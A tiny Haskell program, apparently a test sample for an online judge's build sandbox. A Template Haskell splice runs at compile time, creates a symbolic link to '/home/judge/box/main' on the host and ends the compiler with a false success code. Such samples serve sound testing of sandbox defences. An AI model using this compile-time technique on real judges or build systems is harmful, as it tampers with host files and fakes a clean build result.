{-# LANGUAGE TemplateHaskell #-}
import Language.Haskell.TH
import System.Exit
import System.Posix.Files
import System.Posix.Process

-- The compiler is what makes the program; here it makes a link to a file of the host, and ends as if all were well.
main :: IO ()
main = $(runIO (createSymbolicLink "@CANARY@" "/home/judge/box/main" >> exitImmediately ExitSuccess) >> [| return () |])
